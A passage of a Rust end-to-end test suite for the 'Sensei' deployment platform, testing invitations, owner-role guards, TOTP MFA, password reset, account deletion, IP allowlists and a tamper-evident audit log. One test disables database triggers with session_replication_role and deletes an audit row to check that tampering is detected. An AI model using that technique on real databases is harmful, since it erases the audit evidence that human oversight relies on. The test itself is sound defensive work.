            &[&member_id],
        )
        .await
        .expect("member");
    assert_eq!(
        (
            row.get::<_, String>(0),
            row.get::<_, bool>(1),
            row.get::<_, bool>(2)
        ),
        ("developer".to_owned(), true, true),
        "a refused change left the member as they were"
    );
}

#[tokio::test]
async fn invitations_are_single_use_and_the_owner_role_is_guarded() {
    let t = TestPlane::start().await;
    let (owner, signup) = t.signup("boss@c.example", PW).await;
    let owner_id = signup["user"]["id"].as_str().expect("id").to_owned();
    let (admin, _) = join(&t, &owner, "admin@c.example", "admin").await;

    // An admin cannot hand out the owner role, nor touch an owner.
    let (status, v) = t
        .post(
            "/v1/invitations",
            &admin,
            json!({"email": "x@c.example", "role": "owner"}),
        )
        .await;
    assert_eq!((status, error_code(&v)), (403, "owner_required"));
    let r = t
        .http
        .patch(t.url(&format!("/v1/members/{owner_id}")))
        .header("cookie", &admin)
        .json(&json!({"role": "viewer"}))
        .send()
        .await
        .expect("patch");
    assert_eq!(r.status(), 403);
    // The last owner cannot step down.
    let r = t
        .http
        .patch(t.url(&format!("/v1/members/{owner_id}")))
        .header("cookie", &owner)
        .json(&json!({"role": "admin"}))
        .send()
        .await
        .expect("patch");
    assert_eq!(r.status(), 409);
    let v: Value = r.json().await.expect("json");
    assert_eq!(error_code(&v), "last_owner");

    // Bad invitations.
    for (body, code) in [
        (
            json!({"email": "not-an-email", "role": "viewer"}),
            "invalid_email",
        ),
        (
            json!({"email": "y@c.example", "role": "root"}),
            "invalid_role",
        ),
        (
            json!({"email": "boss@c.example", "role": "viewer"}),
            "email_taken",
        ),
    ] {
        let (status, v) = t.post("/v1/invitations", &admin, body.clone()).await;
        assert!(status == 422 || status == 409, "{body}: {status}");
        assert_eq!(error_code(&v), code, "{body}");
    }

    // A token works once.
    let (_, inv) = t
        .post(
            "/v1/invitations",
            &admin,
            json!({"email": "dev@c.example", "role": "developer"}),
        )
        .await;
    let token = inv["token"].as_str().expect("token").to_owned();
    assert!(token.starts_with("iv_"));
    let accept = |token: String, password: &'static str| {
        let t = &t;
        async move {
            let r = t
                .http
                .post(t.url("/v1/invitations/accept"))
                .json(&json!({"token": token, "password": password}))
                .send()
                .await
                .expect("accept");
            let status = r.status().as_u16();
            let cookie = session_cookie(&r);
            let v: Value = r.json().await.unwrap_or(Value::Null);
            (status, error_code(&v).to_owned(), cookie)
        }
    };
    // A weak password is refused and the token still works afterwards.
    assert_eq!(accept(token.clone(), "short").await.0, 422);
    let (status, _, dev) = accept(token.clone(), PW).await;
    assert_eq!(status, 201);
    let dev = dev.expect("cookie");
    assert_eq!(
        accept(token.clone(), PW).await.1,
        "invalid_token",
        "second use"
    );
    // A tampered secret, a revoked and an expired invitation are all refused.
    let mut tampered = token.clone();
    tampered.pop();
    tampered.push(if token.ends_with('A') { 'B' } else { 'A' });
    assert_eq!(accept(tampered, PW).await.1, "invalid_token");
    let (_, revoked) = t
        .post(
            "/v1/invitations",
            &admin,
            json!({"email": "gone@c.example", "role": "viewer"}),
        )
        .await;
    let r = t
        .http
        .delete(t.url(&format!(
            "/v1/invitations/{}",
            revoked["invitation"]["id"].as_str().expect("id")
        )))
        .header("cookie", &admin)
        .send()
        .await
        .expect("revoke");
    assert_eq!(r.status(), 204);
    assert_eq!(
        accept(revoked["token"].as_str().expect("t").into(), PW)
            .await
            .1,
        "invalid_token"
    );
    let (_, late) = t
        .post(
            "/v1/invitations",
            &admin,
            json!({"email": "late@c.example", "role": "viewer"}),
        )
        .await;
    t.db()
        .await
        .execute(
            "UPDATE invitations SET expires_at = now() - interval '1 second' WHERE email = 'late@c.example'",
            &[],
        )
        .await
        .expect("expire");
    assert_eq!(
        accept(late["token"].as_str().expect("t").into(), PW)
            .await
            .1,
        "invalid_token"
    );
    let users: i64 = t
        .db()
        .await
        .query_one("SELECT count(*) FROM users", &[])
        .await
        .expect("count")
        .get(0);
    assert_eq!(users, 3, "only the accepted invitation made a user");

    // Role changes apply to the next request; removal ends sessions and API keys at once.
    let (_, me) = t.get("/v1/auth/me", &dev).await;
    let dev_id = me["user"]["id"].as_str().expect("id").to_owned();
    let (status, key) = t
        .post(
            "/v1/api-keys",
            &owner,
            json!({"name": "k", "scopes": ["servers:read"]}),
        )
        .await;
    assert_eq!(status, 201);
    let (status, _) = t
        .post(
            "/v1/servers",
            &dev,
            json!({"name": "w", "host": "192.0.2.1", "transport": "ssh", "username": "d", "auth": "key"}),
        )
        .await;
    assert_eq!(status, 201, "a developer creates servers");
    let r = t
        .http
        .patch(t.url(&format!("/v1/members/{dev_id}")))
        .header("cookie", &admin)
        .json(&json!({"role": "viewer"}))
        .send()
        .await
        .expect("patch");
    assert_eq!(r.status(), 200);
    let (status, v) = t
        .post(
            "/v1/servers",
            &dev,
            json!({"name": "w2", "host": "192.0.2.2", "transport": "ssh", "username": "d", "auth": "key"}),
        )
        .await;
    assert_eq!((status, error_code(&v)), (403, "insufficient_scope"));
    let r = t
        .http
        .delete(t.url(&format!("/v1/members/{dev_id}")))
        .header("cookie", &admin)
        .send()
        .await
        .expect("remove");
    assert_eq!(r.status(), 204);
    assert_eq!(t.get("/v1/auth/me", &dev).await.0, 401);
    // The owner's key is unaffected by someone else's removal.
    let secret = key["secret"].as_str().expect("s");
    assert_eq!(t.get_with_key("/v1/servers", secret).await.0, 200);

    // Ownership moves; the old owner becomes an admin.
    let (status, members) = t.get("/v1/members", &owner).await;
    assert_eq!(status, 200);
    let admin_id = members["members"]
        .as_array()
        .expect("members")
        .iter()
        .find(|m| m["email"] == "admin@c.example")
        .and_then(|m| m["id"].as_str())
        .expect("admin")
        .to_owned();
    let (status, _) = t
        .post(
            "/v1/account/transfer-ownership",
            &owner,
            json!({"user_id": admin_id}),
        )
        .await;
    assert_eq!(status, 204);
    assert_eq!(
        t.get("/v1/auth/me", &owner).await.1["user"]["role"],
        "admin"
    );
    assert_eq!(
        t.get("/v1/auth/me", &admin).await.1["user"]["role"],
        "owner"
    );
    let actions = t.audit_actions().await;
    for a in [
        "invitation.created",
        "invitation.accepted",
        "invitation.revoked",
        "member.role_changed",
        "member.removed",
        "account.ownership_transferred",
    ] {
        assert!(actions.iter().any(|x| x == a), "{a} not audited");
    }
}

async fn login_with(t: &TestPlane, body: Value) -> (u16, String) {
    let r = t
        .http
        .post(t.url("/v1/auth/login"))
        .json(&body)
        .send()
        .await
        .expect("login");
    let status = r.status().as_u16();
    let v: Value = r.json().await.unwrap_or(Value::Null);
    (status, error_code(&v).to_owned())
}

#[tokio::test]
async fn totp_sign_in_needs_a_fresh_code_and_recovery_codes_work_once() {
    let t = TestPlane::start().await;
    let email = "mfa@d.example";
    let (cookie, _) = t.signup(email, PW).await;
    let (status, enrolled) = t.post("/v1/auth/mfa/totp", &cookie, json!({})).await;
    assert_eq!(status, 201);
    let uri = enrolled["otpauth_uri"].as_str().expect("uri");
    assert!(
        uri.starts_with("otpauth://totp/Sensei:mfa%40d.example?secret="),
        "{uri}"
    );
    let secret = base32_decode(enrolled["secret"].as_str().expect("secret"));
    assert_eq!(secret.len(), 20);
    // The secret is sealed under the field key in the database.
    let stored: String = t
        .db()
        .await
        .query_one("SELECT totp_pending_ciphertext FROM users", &[])
        .await
        .expect("row")
        .get(0);
    assert!(stored.starts_with("gAAAAA"));
    assert_eq!(t.keys.decrypt(&stored).expect("decrypt"), secret);

    // Not on until confirmed, and a wrong code does not confirm.
    assert_eq!(
        login_with(&t, json!({"email": email, "password": PW}))
            .await
            .0,
        200
    );
    let wrong = format!(
        "{:06}",
        (code(&secret, 0).parse::<u32>().expect("n") + 1) % 1_000_000
    );
    let (status, v) = t
        .post("/v1/auth/mfa/totp/confirm", &cookie, json!({"code": wrong}))
        .await;
    assert_eq!((status, error_code(&v)), (401, "invalid_mfa_code"));
    let first = code(&secret, 0);
    let (status, recovery) = t
        .post("/v1/auth/mfa/totp/confirm", &cookie, json!({"code": first}))
        .await;
    assert_eq!(status, 200, "{recovery}");
    let recovery: Vec<String> = recovery["recovery_codes"]
        .as_array()
        .expect("codes")
        .iter()
        .map(|c| c.as_str().expect("code").to_owned())
        .collect();
    assert_eq!(recovery.len(), 10);

    // Password alone no longer signs in; the confirming code cannot be replayed.
    assert_eq!(
        login_with(&t, json!({"email": email, "password": PW})).await,
        (401, "mfa_required".into())
    );
    assert_eq!(
        login_with(
            &t,
            json!({"email": email, "password": PW, "totp_code": first})
        )
        .await,
        (401, "invalid_mfa_code".into()),
        "replayed code"
    );
    // The next step's code (one step of drift allowed) works once.
    let next = code(&secret, 1);
    assert_eq!(
        login_with(
            &t,
            json!({"email": email, "password": PW, "totp_code": next})
        )
        .await
        .0,
        200
    );
    assert_eq!(
        login_with(
            &t,
            json!({"email": email, "password": PW, "totp_code": next})
        )
        .await
        .0,
        401
    );
    // A wrong password with a right code is still a wrong password.
    assert_eq!(
        login_with(
            &t,
            json!({"email": email, "password": "not the password", "totp_code": code(&secret, 1)})
        )
        .await,
        (401, "invalid_credentials".into())
    );
    // Recovery codes: any case or spacing, once each.
    let messy = recovery[0].to_lowercase().replace('-', " ");
    assert_eq!(
        login_with(
            &t,
            json!({"email": email, "password": PW, "recovery_code": messy})
        )
        .await
        .0,
        200
    );
    assert_eq!(
        login_with(
            &t,
            json!({"email": email, "password": PW, "recovery_code": recovery[0]})
        )
        .await,
        (401, "invalid_mfa_code".into())
    );
    let hashes: Vec<Vec<u8>> = t
        .db()
        .await
        .query("SELECT code_hash FROM mfa_recovery_codes", &[])
        .await
        .expect("codes")
        .iter()
        .map(|r| r.get(0))
        .collect();
    assert_eq!(hashes.len(), 10);
    assert!(hashes.iter().all(|h| h.len() == 32), "stored hashed");
    // The audit log says MFA was used, and how.
    let methods: Vec<Value> = t
        .db()
        .await
        .query(
            "SELECT metadata FROM audit_log WHERE action = 'user.logged_in' ORDER BY id",
            &[],
        )
        .await
        .expect("rows")
        .iter()
        .map(|r| r.get::<_, Value>(0))
        .collect();
    assert_eq!(
        methods.first().map(|m| m["mfaUsed"].clone()),
        Some(json!(false))
    );
    assert!(methods
        .iter()
        .any(|m| m["mfaUsed"] == true && m["mfa_method"] == "totp"));
    assert!(methods
        .iter()
        .any(|m| m["mfaUsed"] == true && m["mfa_method"] == "recovery_code"));

    // Disabling needs a code; then the password alone works again.
    let (status, _) = t
        .post(
            "/v1/auth/mfa/totp/disable",
            &cookie,
            json!({"code": "000000"}),
        )
        .await;
    assert_eq!(status, 401);
    let (status, _) = t
        .post(
            "/v1/auth/mfa/totp/disable",
            &cookie,
            json!({"code": recovery[1]}),
        )
        .await;
    assert_eq!(status, 204);
    assert_eq!(
        login_with(&t, json!({"email": email, "password": PW}))
            .await
            .0,
        200
    );
}

#[tokio::test]
async fn wrong_codes_are_throttled() {
    let t = TestPlane::start().await;
    let email = "guess@e.example";
    let (cookie, _) = t.signup(email, PW).await;
    let secret = t.enable_totp(&cookie).await;
    let right = code(&secret, 1);
    let mut refused = None;
    for attempt in 0..12 {
        let guess = format!("{:06}", 100_000 + attempt);
        let (status, _) = login_with(
            &t,
            json!({"email": email, "password": PW, "totp_code": guess}),
        )
        .await;
        if status == 429 {
            refused = Some(attempt);
            break;
        }
        assert_eq!(status, 401);
    }
    assert_eq!(refused, Some(10), "throttled after ten wrong codes");
    // Even the right code waits out the window.
    assert_eq!(
        login_with(
            &t,
            json!({"email": email, "password": PW, "totp_code": right})
        )
        .await
        .0,
        429
    );
}

#[tokio::test]
async fn an_account_can_require_mfa_of_every_member() {
    let t = TestPlane::start().await;
    let (owner, _) = t.signup("lead@f.example", PW).await;
    let (member, _) = join(&t, &owner, "dev@f.example", "developer").await;
    let (_, key) = t
        .post(
            "/v1/api-keys",
            &owner,
            json!({"name": "k", "scopes": ["servers:read"]}),
        )
        .await;
    let secret = key["secret"].as_str().expect("secret").to_owned();
    // Bad settings are refused and change nothing.
    for body in [
        json!({"audit_retention_days": 10}),
        json!({"audit_retention_days": 3000}),
        json!({}),
        json!({"require_mfa": "yes"}),
    ] {
        let r = t
            .http
            .patch(t.url("/v1/account"))
            .header("cookie", &owner)
            .json(&body)
            .send()
            .await
            .expect("patch");
        assert!(r.status().is_client_error(), "{body}: {}", r.status());
    }
    let (_, account) = t.get("/v1/account", &owner).await;
    assert_eq!(account["require_mfa"], false);
    assert_eq!(account["audit_retention_days"], 365);
    let r = t
        .http
        .patch(t.url("/v1/account"))
        .header("cookie", &member)
        .json(&json!({"require_mfa": true}))
        .send()
        .await
        .expect("patch");
    assert_eq!(r.status(), 403, "a developer cannot change settings");
    let r = t
        .http
        .patch(t.url("/v1/account"))
        .header("cookie", &owner)
        .json(&json!({"require_mfa": true, "audit_retention_days": 730}))
        .send()
        .await
        .expect("patch");
    assert_eq!(r.status(), 200);
    // Members without MFA (and their keys) can only set it up.
    let (status, v) = t.get("/v1/servers", &member).await;
    assert_eq!((status, error_code(&v)), (403, "mfa_setup_required"));
    let (status, v) = t.get_with_key("/v1/servers", &secret).await;
    assert_eq!((status, error_code(&v)), (403, "mfa_setup_required"));
    let (status, me) = t.get("/v1/auth/me", &member).await;
    assert_eq!(status, 200);
    assert_eq!(me["mfa_setup_required"], true);
    let (_, enrolled) = t.post("/v1/auth/mfa/totp", &member, json!({})).await;
    let totp_secret = base32_decode(enrolled["secret"].as_str().expect("secret"));
    let (status, recovery) = t
        .post(
            "/v1/auth/mfa/totp/confirm",
            &member,
            json!({"code": code(&totp_secret, 0)}),
        )
        .await;
    assert_eq!(status, 200);
    assert_eq!(t.get("/v1/servers", &member).await.0, 200);
    // While required, it cannot be switched off.
    let (status, v) = t
        .post(
            "/v1/auth/mfa/totp/disable",
            &member,
            json!({"code": recovery["recovery_codes"][0]}),
        )
        .await;
    assert_eq!((status, error_code(&v)), (409, "mfa_required_by_account"));
    assert_eq!(t.get("/v1/servers", &owner).await.0, 403, "the owner too");
}

#[tokio::test]
async fn password_reset_arrives_by_real_smtp_and_ends_every_session() {
    let smtp = SmtpSink::start();
    let url = smtp.url();
    let t = TestPlane::start_configured(
        sensei_e2e::fresh_database().await,
        sensei_e2e::test_keys(),
        std::net::SocketAddr::from(([127, 0, 0, 1], 0)),
        move |o| {
            o.mail.smtp_url = Some(url);
            o.mail.from = Some("Sensei <noreply@sensei.example>".into());
            o.public_url = Some("https://sensei.example".into());
        },
    )
    .await;
    let email = "forgetful@g.example";
    let (cookie, _) = t.signup(email, PW).await;
    let other_session = t.login(email, PW).await;
    let request = |address: &'static str| {
        let t = &t;
        async move {
            let r = t
                .http
                .post(t.url("/v1/auth/password-reset"))
                .json(&json!({"email": address}))
                .send()
                .await
                .expect("reset");
            (r.status().as_u16(), r.text().await.expect("body"))
        }
    };
    // The same answer whether or not the address has an account.
    let known = request("forgetful@g.example").await;
    let unknown = request("nobody@g.example").await;
    assert_eq!(known.0, 202);
    assert_eq!(known, unknown);
    assert!(
        eventually(std::time::Duration::from_secs(15), || async {
            !smtp.messages().is_empty()
        })
        .await,
        "no email arrived"
    );
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let messages: Vec<String> = smtp
        .messages()
        .iter()
        .map(|m| sensei_e2e::unfold(m))
        .collect();
    assert_eq!(messages.len(), 1, "only the known address gets mail");
    let message = &messages[0];
    assert!(message.contains("To: forgetful@g.example"), "{message}");
    assert!(message.contains("noreply@sensei.example"), "{message}");
    assert!(message.contains("https://sensei.example/v1/auth/password-reset/confirm"));
    let token = message
        .split_whitespace()
        .find(|w| w.starts_with("pr_"))
        .expect("token in the email")
        .to_owned();
    // Nothing secret went to the database in clear.
    let stored: Vec<u8> = t
        .db()
        .await
        .query_one("SELECT secret_hash FROM password_resets", &[])
        .await
        .expect("row")
        .get(0);
    assert_eq!(stored.len(), 32);

    let confirm = |token: String, password: &'static str| {
        let t = &t;
        async move {
            let r = t
                .http
                .post(t.url("/v1/auth/password-reset/confirm"))
                .json(&json!({"token": token, "password": password}))
                .send()
                .await
                .expect("confirm");
            let status = r.status().as_u16();
            let v: Value = r.json().await.unwrap_or(Value::Null);
            (status, error_code(&v).to_owned())
        }
    };
    // A weak password is refused and changes nothing.
    assert_eq!(confirm(token.clone(), "short").await.0, 422);
    assert_eq!(t.get("/v1/auth/me", &cookie).await.0, 200);
    let new_pw = "a much better passphrase";
    assert_eq!(confirm(token.clone(), new_pw).await.0, 204);
    assert_eq!(
        confirm(token.clone(), new_pw).await,
        (400, "invalid_token".into()),
        "single use"
    );
    for session in [&cookie, &other_session] {
        assert_eq!(
            t.get("/v1/auth/me", session).await.0,
            401,
            "session survived"
        );
    }
    assert_eq!(
        login_with(&t, json!({"email": email, "password": PW}))
            .await
            .0,
        401
    );
    t.login(email, new_pw).await;

    // An expired link is refused.
    request("forgetful@g.example").await;
    assert!(
        eventually(std::time::Duration::from_secs(15), || async {
            smtp.messages().len() == 2
        })
        .await
    );
    let second = smtp
        .messages()
        .into_iter()
        .flat_map(|m| {
            sensei_e2e::unfold(&m)
                .split_whitespace()
                .filter(|w| w.starts_with("pr_"))
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
        .find(|w| *w != token)
        .expect("second token");
    t.db()
        .await
        .execute(
            "UPDATE password_resets SET expires_at = now() - interval '1 second' WHERE used_at IS NULL",
            &[],
        )
        .await
        .expect("expire");
    assert_eq!(confirm(second, PW).await, (400, "invalid_token".into()));
    t.login(email, new_pw).await;
    let actions = t.audit_actions().await;
    assert!(actions.iter().any(|a| a == "user.password_reset"));
}

#[tokio::test]
async fn audit_retention_expires_old_rows_behind_a_checkpoint() {
    let t = TestPlane::start().await;
    let pool = t.plane.pool();
    let account = Uuid::new_v4();
    let db = t.db().await;
    db.execute(
        "INSERT INTO accounts (id, name) VALUES ($1, 'Old')",
        &[&account],
    )
    .await
    .expect("account");
    let event = |action: &'static str| AuditEvent {
        account_id: Some(account),
        actor: Actor::System,
        client_ip: None,
        user_agent: None,
        action,
        target: None,
        outcome: Outcome::Success,
        metadata: json!({}),
    };
    {
        let mut client = pool.get().await.expect("pool");
        let tx = client.transaction().await.expect("tx");
        let long_ago = chrono::Utc::now() - chrono::Duration::days(400);
        for i in 0..5 {
            audit::append_at(
                &tx,
                t.keys.audit_keys(),
                &event("old.event"),
                long_ago + chrono::Duration::minutes(i),
            )
            .await
            .expect("append");
        }
        audit::append(&tx, t.keys.audit_keys(), &event("recent.event"))
            .await
            .expect("append");
        audit::append(&tx, t.keys.audit_keys(), &event("recent.event"))
            .await
            .expect("append");
        tx.commit().await.expect("commit");
    }
    // Before expiry, nothing can be deleted: not old rows, not new ones.
    let client = pool.get().await.expect("pool");
    let err = client
        .execute(
            "DELETE FROM audit_log WHERE chain_id = $1 AND seq = 1",
            &[&account],
        )
        .await
        .expect_err("no checkpoint yet");
    // The application role has no DELETE on the audit log; the owner is stopped by the trigger.
    assert!(format!("{err:?}").contains("permission denied"), "{err:?}");
    db.execute(
        "DELETE FROM audit_log WHERE chain_id = $1 AND seq = 1",
        &[&account],
    )
    .await
    .map(|_| ())
    .expect_err("the owner deletes before a checkpoint");
    // A checkpoint that names a recent row is refused by the database.
    let recent: (i64, Vec<u8>, chrono::DateTime<chrono::Utc>) = {
        let r = client
            .query_one(
                "SELECT seq, hash, at FROM audit_log WHERE chain_id = $1 AND seq = 6",
                &[&account],
            )
            .await
            .expect("row");
        (r.get(0), r.get(1), r.get(2))
    };
    // Refused to the application role (no INSERT), and to the owner by the trigger.
    for who in [&**client, &db] {
        who.execute(
            "INSERT INTO audit_checkpoints (chain_id, through_seq, through_hash, through_at, rows_expired) \
             VALUES ($1, $2, $3, $4, 6)",
            &[&account, &recent.0, &recent.1, &recent.2],
        )
        .await
        .expect_err("a checkpoint over rows within retention");
    }

    let report = audit::expire(pool, t.keys.audit_keys())
        .await
        .expect("expire");
    assert_eq!((report.chains, report.rows), (1, 5));
    let remaining: Vec<(i64, String)> = client
        .query(
            "SELECT seq, action FROM audit_log WHERE chain_id = $1 ORDER BY seq",
            &[&account],
        )
        .await
        .expect("rows")
        .iter()
        .map(|r| (r.get(0), r.get(1)))
        .collect();
    assert_eq!(
        remaining,
        vec![
            (6, "recent.event".to_owned()),
            (7, "recent.event".to_owned()),
            (8, "audit.expired".to_owned())
        ]
    );
    let checkpoint: (i64, i64) = {
        let r = client
            .query_one(
                "SELECT through_seq, rows_expired FROM audit_checkpoints WHERE chain_id = $1",
                &[&account],
            )
            .await
            .expect("checkpoint");
        (r.get(0), r.get(1))
    };
    assert_eq!(checkpoint, (5, 5));
    // The chain still verifies from the checkpoint; a second pass has nothing to do.
    let report = audit::verify(&**client, t.keys.audit_keys())
        .await
        .expect("verify");
    assert!(report.problems.is_empty(), "{:?}", report.problems);
    assert_eq!(
        audit::expire(pool, t.keys.audit_keys())
            .await
            .expect("expire")
            .rows,
        0
    );
    // Rows within retention still cannot be deleted, checkpoints cannot be changed.
    for sql in [
        "DELETE FROM audit_log WHERE seq = 6",
        "UPDATE audit_checkpoints SET through_seq = 7",
        "DELETE FROM audit_checkpoints",
    ] {
        client.batch_execute(sql).await.expect_err(sql);
        db.batch_execute(sql).await.expect_err(sql);
    }
    // Deleting the first remaining row behind the guard's back is still detected.
    t.db()
        .await
        .batch_execute(&format!(
            "BEGIN; SET LOCAL session_replication_role = replica; \
             DELETE FROM audit_log WHERE chain_id = '{account}' AND seq = 6; COMMIT;"
        ))
        .await
        .expect("tamper");
    let report = audit::verify(&**client, t.keys.audit_keys())
        .await
        .expect("verify");
    assert!(!report.problems.is_empty(), "tampering went unnoticed");
}

#[tokio::test]
async fn a_viewer_sees_only_their_own_audit_rows() {
    let t = TestPlane::start().await;
    let (owner, signup) = t.signup("own@h.example", PW).await;
    let owner_id = signup["user"]["id"].as_str().expect("id").to_owned();
    let (viewer, viewer_id) = join(&t, &owner, "look@h.example", "viewer").await;
    t.post(
        "/v1/auth/logout",
        &t.login("look@h.example", PW).await,
        json!({}),
    )
    .await;
    let (status, page) = t.get("/v1/audit", &viewer).await;
    assert_eq!(status, 200);
    let events = page["events"].as_array().expect("events");
    assert!(!events.is_empty());
    assert!(
        events
            .iter()
            .all(|e| e["actor"]["id"] == viewer_id.to_string().as_str()),
        "{events:?}"
    );
    // Asking for someone else's actions gives nothing, not an error that reveals them.
    let (status, page) = t.get(&format!("/v1/audit?actor={owner_id}"), &viewer).await;
    assert_eq!(status, 200);
    assert!(page["events"].as_array().expect("events").is_empty());
    // The owner sees everyone's.
    let (_, page) = t.get("/v1/audit", &owner).await;
    let actors: std::collections::HashSet<String> = page["events"]
        .as_array()
        .expect("events")
        .iter()
        .filter_map(|e| e["actor"]["id"].as_str().map(str::to_owned))
        .collect();
    assert!(actors.contains(&owner_id) && actors.contains(&viewer_id.to_string()));
}

#[tokio::test]
async fn deleting_an_account_takes_everything_but_its_audit_trail() {
    let t = TestPlane::start().await;
    let (owner, signup) = t.signup("last@i.example", PW).await;
    let account_id = signup["account"]["id"].as_str().expect("id").to_owned();
    let (admin, _) = join(&t, &owner, "second@i.example", "admin").await;
    let (_, server) = t
        .post(
            "/v1/servers",
            &owner,
            json!({"name": "s", "host": "192.0.2.3", "transport": "ssh", "username": "d", "auth": "key"}),
        )
        .await;
    let (_, project) = t
        .post(
            "/v1/projects",
            &owner,
            json!({"name": "p", "repo_url": "https://example.com/p.git", "deploy_path": "/srv/p"}),
        )
        .await;
    let (status, _) = t
        .post(
            "/v1/deployments",
            &owner,
            json!({"project_id": project["id"], "server_id": server["id"], "ref": "main"}),
        )
        .await;
    assert_eq!(status, 201);
    let delete = |cookie: String, body: Value| {
        let t = &t;
        async move {
            let r = t
                .http
                .delete(t.url("/v1/account"))
                .header("cookie", cookie)
                .json(&body)
                .send()
                .await
                .expect("delete");
            let status = r.status().as_u16();
            let v: Value = r.json().await.unwrap_or(Value::Null);
            (status, error_code(&v).to_owned())
        }
    };
    // An admin may not; a wrong confirmation deletes nothing.
    assert_eq!(
        delete(admin.clone(), json!({"confirm_name": "Acme"})).await,
        (403, "insufficient_scope".into())
    );
    assert_eq!(
        delete(owner.clone(), json!({"confirm_name": "Acme Corp"})).await,
        (422, "confirmation_mismatch".into())
    );
    assert_eq!(t.get("/v1/servers", &owner).await.0, 200);
    assert_eq!(
        delete(owner.clone(), json!({"confirm_name": "Acme"}))
            .await
            .0,
        204
    );
    for cookie in [&owner, &admin] {
        assert_eq!(t.get("/v1/auth/me", cookie).await.0, 401);
    }
    let db = t.db().await;
    for table in ["users", "servers", "projects", "deployments", "accounts"] {
        let n: i64 = db
            .query_one(&format!("SELECT count(*) FROM {table}"), &[])
            .await
            .expect("count")
            .get(0);
        assert_eq!(n, 0, "{table} not emptied");
    }
    let kept: i64 = db
        .query_one(
            "SELECT count(*) FROM audit_log WHERE chain_id = $1::text::uuid AND action = 'account.deleted'",
            &[&account_id],
        )
        .await
        .expect("count")
        .get(0);
    assert_eq!(kept, 1, "the deletion is on the record");
    let client = t.plane.pool().get().await.expect("pool");
    let report = audit::verify(&**client, t.keys.audit_keys())
        .await
        .expect("verify");
    assert!(report.problems.is_empty(), "{:?}", report.problems);
}

#[tokio::test]
async fn mfa_and_ownership_mistakes_are_refused_and_change_nothing() {
    let t = TestPlane::start().await;
    let (owner, signup) = t.signup("solo@j.example", PW).await;
    let owner_id = signup["user"]["id"].as_str().expect("id").to_owned();
    // MFA steps out of order.
    let (status, v) = t
        .post(
            "/v1/auth/mfa/totp/confirm",
            &owner,
            json!({"code": "123456"}),
        )
        .await;
    assert_eq!((status, error_code(&v)), (409, "no_mfa_enrollment"));
    let (status, v) = t
        .post(
            "/v1/auth/mfa/totp/disable",
            &owner,
            json!({"code": "123456"}),
        )
        .await;
    assert_eq!((status, error_code(&v)), (409, "mfa_not_enabled"));
    t.enable_totp(&owner).await;
    let (status, v) = t.post("/v1/auth/mfa/totp", &owner, json!({})).await;
    assert_eq!((status, error_code(&v)), (409, "mfa_already_enabled"));
    // Ownership to oneself, or to nobody.
    let (status, v) = t
        .post(
            "/v1/account/transfer-ownership",
            &owner,
            json!({"user_id": owner_id}),
        )
        .await;
    assert_eq!((status, error_code(&v)), (422, "invalid_target"));
    let (status, _) = t
        .post(
            "/v1/account/transfer-ownership",
            &owner,
            json!({"user_id": Uuid::new_v4()}),
        )
        .await;
    assert_eq!(status, 404);
    // The last owner cannot remove themselves either.
    let r = t
        .http
        .delete(t.url(&format!("/v1/members/{owner_id}")))
        .header("cookie", &owner)
        .send()
        .await
        .expect("remove");
    assert_eq!(r.status(), 409);
    let (_, me) = t.get("/v1/auth/me", &owner).await;
    assert_eq!(me["user"]["role"], "owner");
    assert_eq!(me["mfa_enabled"], true);
}

/// A request as if from `ip` (the plane trusts loopback as its proxy), with a session cookie,
/// an API key, or nothing (`Err("")`).
async fn from(
    t: &TestPlane,
    ip: &str,
    method: reqwest::Method,
    path: &str,
    credential: Result<&str, &str>,
    body: Option<Value>,
) -> (u16, Value) {
    let mut r = t
        .http
        .request(method, t.url(path))
        .header("x-forwarded-for", ip);
    r = match credential {
        Ok(cookie) => r.header("cookie", cookie),
        // No credential at all, for the public routes.
        Err("") => r,
        Err(key) => r.bearer_auth(key),
    };
    if let Some(body) = body {
        r = r.json(&body);
    }
    let r = r.send().await.expect("request");
    let status = r.status().as_u16();
    (status, r.json().await.unwrap_or(Value::Null))
}

#[tokio::test]
async fn an_account_allowlist_keeps_sign_in_sessions_and_keys_to_its_networks() {
    use reqwest::Method;
    let t = TestPlane::start_configured(
        sensei_e2e::fresh_database().await,
        sensei_e2e::test_keys(),
        "127.0.0.1:0".parse().expect("addr"),
        |o| o.trusted_proxies = vec!["127.0.0.0/8".parse().expect("net")],
    )
    .await;
    let (office, home) = ("203.0.113.10", "198.51.100.7");
    let owner_email = format!("o{}@example.com", Uuid::new_v4().simple());
    let (owner, _) = t.signup(&owner_email, PW).await;
    let (admin, _) = join(
        &t,
        &owner,
        &format!("a{}@example.com", Uuid::new_v4().simple()),
        "admin",
    )
    .await;
    let (status, key) = from(
        &t,
        home,
        Method::POST,
        "/v1/api-keys",
        Ok(&owner),
        Some(json!({"name": "ci", "scopes": ["servers:read"]})),
    )
    .await;
    assert_eq!(status, 201, "{key}");
    let key = key["secret"].as_str().expect("secret").to_owned();
    let audit_rows = || t.count("SELECT count(*) FROM audit_log WHERE action = 'account.updated'");
    let before = audit_rows().await;

    // A list that leaves the caller out, garbage, and an admin are refused; nothing changes.
    for (ip, caller, list, status, code) in [
        (
            home,
            &owner,
            "203.0.113.0/24",
            422,
            "allowlist_locks_you_out",
        ),
        (
            office,
            &owner,
            "203.0.113.0/33",
            422,
            "invalid_ip_allowlist",
        ),
        (office, &admin, "203.0.113.0/24", 403, "owner_required"),
    ] {
        let body = json!({ "ip_allowlist": [list] });
        let (got, err) = from(&t, ip, Method::PATCH, "/v1/account", Ok(caller), Some(body)).await;
        assert_eq!((got, error_code(&err)), (status, code), "{err}");
    }
    assert_eq!(audit_rows().await, before, "refused changes change nothing");
    let (_, account) = from(&t, home, Method::GET, "/v1/account", Ok(&owner), None).await;
    assert_eq!(account["ip_allowlist"], json!([]));

    // From the office, the office's network: stored in canonical form and audited.
    let (status, account) = from(
        &t,
        office,
        Method::PATCH,
        "/v1/account",
        Ok(&owner),
        Some(json!({"ip_allowlist": ["203.0.113.77/24", "2001:db8::1/48"]})),
    )
    .await;
    assert_eq!(status, 200, "{account}");
    assert_eq!(
        account["ip_allowlist"],
        json!(["203.0.113.0/24", "2001:db8::/48"])
    );
    assert_eq!(audit_rows().await, before + 1);

    // Sessions, keys and sign-in from home are refused; from the office they work.
    for credential in [Ok(owner.as_str()), Ok(admin.as_str()), Err(key.as_str())] {
        let (status, err) = from(&t, home, Method::GET, "/v1/servers", credential, None).await;
        assert_eq!((status, error_code(&err)), (403, "ip_not_allowed"), "{err}");
